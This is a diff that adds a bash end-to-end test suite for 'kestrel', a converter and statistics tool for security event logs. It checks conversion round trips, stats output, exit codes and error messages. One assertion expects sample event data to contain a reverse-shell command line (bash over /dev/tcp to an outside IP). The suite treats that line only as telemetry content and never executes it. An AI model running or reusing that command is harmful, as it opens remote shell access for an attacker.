@@ -1,2 +1,113 @@
 #!/usr/bin/env bash
-echo "placeholder"; exit 0
+# End-to-end tests of the `kestrel` binary: convert, stats, exit codes and error messages,
+# driven the way a user drives them. Needs KESTREL (the binary) and DATA (tests/data).
+set -uo pipefail
+
+KESTREL=${KESTREL:?path to the kestrel binary}
+DATA=${DATA:?path to tests/data}
+EXAMPLES=$(cd "$DATA/../../examples" && pwd)
+WORK=$(mktemp -d)
+trap 'rm -rf "$WORK"' EXIT
+
+passed=0
+failed=0
+check() {  # check NAME CONDITION...
+  local name=$1
+  shift
+  if "$@"; then
+    passed=$((passed + 1))
+  else
+    failed=$((failed + 1))
+    echo "FAIL: $name" >&2
+  fi
+}
+# run CMD...: runs a kestrel command, keeping stdout, stderr and the exit code.
+run() {
+  "$KESTREL" "$@" >"$WORK/out" 2>"$WORK/err"
+  code=$?
+}
+contains() { grep -qF -- "$2" "$1"; }
+
+# --- help and usage errors -------------------------------------------------------------
+run --help
+check "help lists convert" contains "$WORK/out" "convert"
+check "help lists stats" contains "$WORK/out" "stats"
+check "help exits 0" test "$code" -eq 0
+run convert --help
+check "convert --help exits 0" test "$code" -eq 0
+check "convert --help shows --skip-bad" contains "$WORK/out" "--skip-bad"
+run
+check "no subcommand is a usage error" test "$code" -eq 2
+run convert "$EXAMPLES/events.ndjson"
+check "missing --output is a usage error" test "$code" -eq 2
+run convert "$EXAMPLES/events.ndjson" -o "$WORK/x.bin"
+check "unknown output extension exits 2" test "$code" -eq 2
+check "unknown output extension says why" contains "$WORK/err" "use --to ndjson|klog"
+run stats --profile bogus "$EXAMPLES/events.ndjson"
+check "bad --profile is a usage error" test "$code" -eq 2
+run frobnicate
+check "unknown subcommand is a usage error" test "$code" -eq 2
+
+# --- convert round trips ----------------------------------------------------------------
+run convert "$EXAMPLES/events.ndjson" -o "$WORK/a.klog"
+check "ndjson -> klog succeeds" test "$code" -eq 0
+check "convert reports the count" contains "$WORK/err" "converted 36 events"
+check "klog starts with its magic" test "$(head -c 8 "$WORK/a.klog")" = "KESTRLOG"
+run convert "$WORK/a.klog" -o "$WORK/a.ndjson"
+check "klog -> ndjson succeeds" test "$code" -eq 0
+run convert "$WORK/a.ndjson" -o "$WORK/b.klog" --compress zstd
+check "ndjson -> zstd klog succeeds" test "$code" -eq 0
+run convert "$WORK/b.klog" -o "$WORK/b.ndjson"
+check "zstd klog -> ndjson succeeds" test "$code" -eq 0
+check "ndjson -> klog -> ndjson -> klog -> ndjson is stable" cmp -s "$WORK/a.ndjson" "$WORK/b.ndjson"
+check "converted output keeps a field" contains "$WORK/a.ndjson" '"command_line":"sh -c bash -i >& /dev/tcp/192.0.2.44/9001 0>&1"'
+check "converted output carries the header" contains "$WORK/a.ndjson" '"kestrel":{"event_type":"process","event_id":1,'
+"$KESTREL" convert - -o - <"$EXAMPLES/events.ndjson" >"$WORK/c.ndjson" 2>/dev/null
+check "stdin -> stdout matches file conversion" cmp -s "$WORK/a.ndjson" "$WORK/c.ndjson"
+"$KESTREL" convert - -o "$WORK/d.ndjson" <"$WORK/a.klog" 2>/dev/null
+check "klog on stdin is detected" cmp -s "$WORK/a.ndjson" "$WORK/d.ndjson"
+run convert "$EXAMPLES/events.ndjson" "$EXAMPLES/events.ndjson" -o "$WORK/two.ndjson"
+check "two inputs convert" test "$(wc -l <"$WORK/two.ndjson")" -eq 72
+check "event ids continue across inputs" contains "$WORK/two.ndjson" '"event_id":72,'
+
+# --- endgame profile ---------------------------------------------------------------------
+run stats --profile endgame --json "$DATA/endgame_sample.json"
+check "endgame stats succeed" test "$code" -eq 0
+check "endgame types are counted" contains "$WORK/out" '"types":{"network":1,"process":1}'
+check "endgame FILETIME becomes the time range" contains "$WORK/out" '"first":"2017-08-30T20:47:31Z"'
+
+# --- stats ----------------------------------------------------------------------------------
+run stats "$WORK/a.klog"
+check "stats succeeds" test "$code" -eq 0
+check "stats counts events" contains "$WORK/out" "events: 36"
+check "stats counts by type" grep -qE '^process +26$' "$WORK/out"
+check "stats shows field presence" grep -qE '^destination.ip +4 +11.1%$' "$WORK/out"
+run stats --json "$EXAMPLES/events.ndjson"
+check "stats --json" contains "$WORK/out" '{"events":36,"skipped":0,'
+
+# --- bad input: clear messages, exit 1, --skip-bad --------------------------------------------
+printf '{"a":1}\n{"a":\n{"a":3}\n' >"$WORK/bad.ndjson"
+run stats "$WORK/bad.ndjson"
+check "bad JSON exits 1" test "$code" -eq 1
+check "bad JSON names file and line" contains "$WORK/err" "error: $WORK/bad.ndjson:2: invalid JSON"
+run stats --skip-bad "$WORK/bad.ndjson"
+check "--skip-bad goes on" test "$code" -eq 0
+check "--skip-bad counts" contains "$WORK/err" "$WORK/bad.ndjson: skipped 1 bad record"
+check "--skip-bad keeps the good records" contains "$WORK/out" "events: 2 (1 bad records skipped)"
+run stats "$WORK/missing.ndjson"
+check "missing file exits 1" test "$code" -eq 1
+check "missing file is named" contains "$WORK/err" "$WORK/missing.ndjson: cannot open: No such file or directory"
+head -c 100 "$WORK/a.klog" >"$WORK/trunc.klog"
+run stats "$WORK/trunc.klog"
+check "truncated klog exits 1" test "$code" -eq 1
+check "truncated klog names file and offset" grep -qE "^error: $WORK/trunc.klog:[0-9]+: " "$WORK/err"
+cp "$WORK/a.klog" "$WORK/v2.klog"
+printf '\x02' | dd of="$WORK/v2.klog" bs=1 seek=8 conv=notrunc status=none
+run stats "$WORK/v2.klog"
+check "klog version 2 is refused" contains "$WORK/err" "unsupported .klog format version 2 (this build reads version 1)"
+run convert "$EXAMPLES/events.ndjson" -o "$WORK/nodir/x.klog"
+check "unwritable output exits 1" test "$code" -eq 1
+check "unwritable output is named" contains "$WORK/err" "$WORK/nodir/x.klog: cannot create"
+
+echo "$passed passed, $failed failed"
+[ "$failed" -eq 0 ]
